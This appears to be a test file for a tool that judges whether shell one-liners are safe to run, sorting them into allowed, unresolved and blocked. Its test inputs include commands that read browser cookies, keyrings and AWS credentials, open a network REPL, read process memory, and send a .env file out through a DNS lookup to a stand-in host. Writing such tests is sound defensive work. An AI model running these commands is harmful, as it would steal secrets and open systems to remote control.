import { describe, expect, test } from 'vitest'
import { analyse } from '../analyse.ts'

/** Code that calls what nobody here knows, and by what it is named. */
const UNFAMILIAR: readonly (readonly [command: string, what: RegExp])[] = [
  [`python3 -c 'import browser_cookie3 as b; print(b.lynx())'`, /module browser_cookie3/],
  [`python3 -c 'from crontab import CronTab; CronTab(user=True).write()'`, /module crontab/],
  [`python3 -c '__import__("secretstorage").dbus_init()'`, /module secretstorage/],
  [
    `python3 -c 'from multiprocessing.managers import BaseManager; BaseManager(("", 5)).start()'`,
    /multiprocessing\.managers/,
  ],
  [
    `node -e 'require("@aws-sdk/credential-providers").fromIni()().then(console.log)'`,
    /module @aws-sdk\/credential-providers/,
  ],
  [`ruby -e 'require "net/ssh"; Net::SSH.start("h", "u")'`, /module net\/ssh/],
  [`ruby -rnet/ssh -e 'Net::SSH.start("h", "u")'`, /module net\/ssh/],
  [`perl -MNet::OpenSSH -e 'print Net::OpenSSH->new("h")->capture("id")'`, /Net::OpenSSH/],
  [`lua -e 'print(require("keyring").get("x"))'`, /module keyring/],
  [`perl -le 'print((getpwnam "dev")[1])'`, /fields of an account/],
]

describe('code is read to its end only where each module that it calls is familiar', () => {
  test.each(UNFAMILIAR)('%s', (command, what) => {
    const { verdict, certainty, unknowns } = analyse(command)
    expect(verdict).not.toBe('BLOCK')
    expect(certainty).toBe('unresolved')
    expect(unknowns?.map((part) => part.what).join('\n')).toMatch(what)
  })

  test('in a whole file, by its name', () => {
    const lines = Array.from({ length: 30 }, (_, i) => `x${i} = ${i}`).join('\n')
    const file = (name: string) =>
      `python3 - <<'E'\nimport ${name}\n${lines}\nprint(${name}.find(x1))\nE`
    expect(analyse(file('browser_cookie3')).certainty).toBe('unresolved')
    expect(analyse(file('ourproject')).certainty).toBe('known')
  })

  test('what a file defines and does not call is not done', () => {
    const code = (end: string) => `python3 - <<'E'\nimport odd\ndef f():\n  odd.do()\n${end}\nE`
    expect(analyse(code('')).certainty).toBe('known')
    expect(analyse(code('f()')).certainty).toBe('unresolved')
  })
})

describe('everyday one-liners are known', () => {
  test.each([
    `python3 -c 'import json, sys; print(json.load(sys.stdin)["a"])'`,
    `python3 -c 'import odd; print(odd.__version__)'`,
    `python3 -c 'import odd'`,
    `python3 -c 'import numpy as np; print(np.zeros(3))'`,
    `node -p 'require("./package.json").version'`,
    `node -p 'require("odd/package.json").version'`,
    `node -e 'require("odd")'`,
    `perl -MList::Util=sum -e 'print sum(1, 2)'`,
    `perl -MOdd::Thing -e 'print $Odd::Thing::VERSION'`,
    `perl -e 'my ($n, $p, $uid) = getpwnam("dev"); print $uid'`,
    `perl -e 'open my $f, "<:encoding(UTF-8)", "notes.txt"; print <$f>'`,
    `ruby -rjson -e 'puts JSON.parse(STDIN.read)["a"]'`,
    `ruby -e 'require "odd"; puts Odd::VERSION'`,
    `python3 -c 'import socket; print(socket.gethostbyname("example.com"))'`,
  ])('%s', (command) => {
    expect(analyse(command)).toMatchObject({ verdict: 'ALLOW', certainty: 'known' })
  })
})

describe('control over a program by others', () => {
  test.each([
    'node --inspect=box:9229 server.js',
    'gdbserver --multi :1234',
    'dlv debug --headless --listen=:2345',
    'docker run -p 9229:9229 node:22 node --inspect=0.0.0.0:9229 server.js',
  ])('%s depends on them', (command) => {
    expect(analyse(command).reason).toMatch(/depends on whoever connects to it/)
  })

  test.each([
    'node --inspect server.js',
    'node --inspect=127.0.0.1:9229 server.js',
    'gdbserver localhost:1234 ./app',
    'nvim --listen 127.0.0.1:6666',
    'dlv debug --headless --listen=127.0.0.1:2345',
    'java -agentlib:jdwp=transport=dt_socket,server=y,address=5005 -jar app.jar',
  ])('%s is for oneself', (command) => {
    expect(analyse(command)).toMatchObject({ verdict: 'ALLOW', certainty: 'known' })
  })

  test.each([
    `node -e 'require("net").createServer(s => require("repl").start({ input: s })).listen(5001)'`,
    `perl -e 'open M, "<:raw", "/proc/" . getppid . "/mem"; print <M>'`,
    `python3 -c 'import socket; socket.gethostbyname(open(".env").read() + ".x.example")'`,
  ])('%s is stopped', (command) => {
    expect(analyse(command).verdict).toBe('BLOCK')
  })
})
